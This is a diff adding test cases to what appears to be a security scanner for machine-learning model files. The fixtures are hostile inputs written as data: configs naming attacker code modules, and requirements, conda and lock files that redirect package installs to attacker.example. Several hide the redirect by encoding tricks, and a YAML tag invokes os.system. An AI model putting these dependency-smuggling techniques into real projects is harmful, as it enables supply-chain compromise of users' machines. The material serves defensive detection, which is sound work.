@@ -142,6 +142,24 @@ CASES: list[Case] = [
     case("sentences/modules.json", b'[{"idx": 0, "path": "", "type": "torch.hub"}]', Code.CUSTOM_CODE),
     case("diffusion/model_index.json", b'{"_class_name": "P", "unet": ["attacker", "Run"]}', Code.CUSTOM_CODE),
     case("diffusion-class/model_index.json", b'{"_class_name": ["pipeline", "Run"]}', Code.CUSTOM_CODE),
+    *(
+        case(f"kernel-{number}/config.json", content, Code.CUSTOM_CODE)
+        for number, content in enumerate(
+            (
+                b'{"model_type": "llama", "attn_implementation": "attacker/kernel"}',
+                b'{"text_config": {"_attn_implementation": "attacker/kernel:run"}}',
+                b'{"attn_implementation": {"text_config": "attacker/kernel"}}',
+            )
+        )
+    ),
+    case(
+        "peft/adapter_config.json",
+        b'{"peft_type": "LORA", "auto_mapping": {"base_model_class": "Run", "parent_library": "attacker"}}',
+        Code.CUSTOM_CODE,
+    ),
+    case(
+        "megatron/adapter_config.json", b'{"megatron_config": {"x": 1}, "megatron_core": "attacker"}', Code.CUSTOM_CODE
+    ),
     case("unlisted.skops", skops("attacker", "Model"), Code.UNLISTED_GLOBAL),
     case("escape/m.safetensors.index.json", b'{"weight_map": {"a": "../../x.safetensors"}}', Code.PATH_ESCAPE),
     case("missing/m.safetensors.index.json", b'{"weight_map": {"a": "x.safetensors"}}', Code.MISSING_FILE),
@@ -170,6 +188,72 @@ CASES: list[Case] = [
             Code.PATH_ESCAPE,
         )
         for number, more in enumerate(("model_path: /tmp/m.pkl", "env: {conda: /tmp/conda.yaml}", "data: C:/m.pkl"))
+    ),
+    case(
+        "environment/MLmodel",
+        _MLMODEL.format(loader="mlflow.sklearn", more="env: {virtualenv: other.yaml}").encode(),
+        Code.FOREIGN_REQUIREMENT,
+    ),
+    *(
+        case(f"requirements-{number}/requirements.txt", f"numpy==2.0\n{line}\n".encode(), Code.FOREIGN_REQUIREMENT)
+        for number, line in enumerate(
+            (
+                "--index-url https://attacker.example/simple",
+                "-i https://attacker.example/simple",
+                "numpy --extra-index-url=https://attacker.example/simple",
+                "--find-links=.",
+                "-r other.txt",
+                "-e .",
+                "./package",
+                "package.whl",
+                "package.tar.gz",
+                "package @ https://attacker.example/p.tar.gz",
+                "package@git+https://attacker.example/p",
+                "git+https://attacker.example/p#egg=p",
+                "https://attacker.example/p.zip",
+                "--index-\\\nurl https://attacker.example/simple",
+                "numpy==1\u2028-i https://attacker.example/simple",
+                "numpy ; python_version > '3'\x0c-e .",
+                "${PACKAGE}",
+            )
+        )
+    ),
+    case(
+        "encoded/requirements.txt",
+        b"# coding: utf-7\nx==1+AAo---extra-index-url+AD0-https+ADoALwAv-attacker.example\n",
+        Code.FOREIGN_REQUIREMENT,
+    ),
+    case("huge/requirements.txt", b"a\n" * 600_000, Code.TOO_LARGE),
+    case("url/constraints.txt", b"numpy @ https://attacker.example/n.whl\n", Code.FOREIGN_REQUIREMENT),
+    *(
+        case(f"conda-{number}/conda.yaml", content.encode(), Code.FOREIGN_REQUIREMENT)
+        for number, content in enumerate(
+            (
+                "channels: [https://attacker.example/c]\n",
+                "channels: ['file:///tmp']\n",
+                "dependencies: ['https://attacker.example/x.conda']\n",
+                "dependencies: ['https://attacker.example/c::numpy']\n",
+                "dependencies: [pip, {pip: ['-i https://attacker.example/s', numpy]}]\n",
+                "dependencies: [pip, {pip: ['numpy @ https://attacker.example/n.zip']}]\n",
+                "variables: {PIP_INDEX_URL: 'https://attacker.example/s'}\n",
+            )
+        )
+    ),
+    *(
+        case(f"environment-{number}/python_env.yaml", content.encode(), Code.FOREIGN_REQUIREMENT)
+        for number, content in enumerate(
+            (
+                "dependencies: ['-r requirements.txt', '-e .']\n",
+                "build_dependencies: ['pip @ https://attacker.example/p.zip']\n",
+                'dependencies: ["numpy\\n--find-links ."]\n',
+                "python: ./python\n",
+            )
+        )
+    ),
+    case(
+        "lock/uv.lock",
+        b'[[package]]\nname = "x"\nsource = { registry = "https://attacker.example/simple" }\n',
+        Code.FOREIGN_REQUIREMENT,
     ),
     case("tag/MLmodel", b"flavors: !!python/object/apply:os.system ['true']\n", Code.DANGEROUS_TAG),
     case("none/MLmodel", b"nothing: here\n", Code.MALFORMED),
